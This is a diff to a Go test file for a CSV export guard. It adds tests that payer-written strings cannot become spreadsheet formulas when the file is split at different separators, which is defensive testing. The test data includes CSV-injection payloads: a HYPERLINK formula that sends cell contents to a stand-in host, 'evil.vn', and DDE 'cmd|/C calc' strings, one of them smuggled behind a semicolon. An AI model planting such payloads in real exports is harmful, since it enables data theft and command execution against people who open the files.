@@ -22,7 +22,7 @@ var zone = time.FixedZone("", 7*3600)
 // contents are what payers can write; none of them may become a formula.
 var contents = []string{
 	"DH10293 thanh toán", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1",
-	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_", "a\x01b", "<c>&amp;</c>", "",
+	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_", "DH1;=cmd|'/C calc'!A0;", "DH2, +1+1,", "a\x01b", "<c>&amp;</c>", "",
 }
 
 func transactions() (list []app.Transaction) {
@@ -82,6 +82,19 @@ func TestCSV(t *testing.T) {
 		for _, cell := range row {
 			if strings.HasPrefix(strings.TrimLeft(cell, " \"\u200b"), "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
 				t.Errorf("a spreadsheet computes %q", cell)
+			}
+		}
+	}
+}
+
+// TestCSVCutElsewhere: a program that cuts the file at another character than it was made
+// for, or at several, finds no formula either.
+func TestCSVCutElsewhere(t *testing.T) {
+	for _, format := range []sheet.Format{sheet.CSV, sheet.Semicolons} {
+		file := string(write(t, format, app.English))
+		for cell := range strings.FieldsFuncSeq(file, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+			if first := strings.TrimLeft(cell, " \"\u200b"); first != "" && strings.ContainsAny(first[:1], "=+-@") {
+				t.Errorf("%s: a spreadsheet computes %q", format, cell)
 			}
 		}
 	}
@@ -157,11 +170,13 @@ func FuzzGuard(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, text string) {
 		got := sheet.Guard(text)
-		if got != text && got != "'"+text {
+		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(text, "'", "") {
 			t.Fatalf("%q became %q", text, got)
 		}
-		if first := strings.TrimLeft(got, " \t\r\n\"\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
-			t.Fatalf("a spreadsheet computes %q", got)
+		for cell := range strings.FieldsFuncSeq(got, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+			if first := strings.TrimLeft(cell, " \"\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
+				t.Fatalf("a spreadsheet computes %q of %q", cell, got)
+			}
 		}
 	})
 }
